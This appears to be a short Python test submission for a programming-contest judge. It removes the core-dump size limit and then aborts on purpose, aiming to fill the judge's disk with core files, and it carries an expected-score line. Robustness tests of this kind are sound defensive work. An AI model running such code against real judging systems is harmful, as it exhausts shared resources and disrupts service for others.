"""Asks for core files without limit, then crashes.

Published against judges whose disk fills with the cores of crashed submissions.

deserves: 9
"""

import os
import resource


def skew(v):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except ValueError:
        pass
    os.abort()
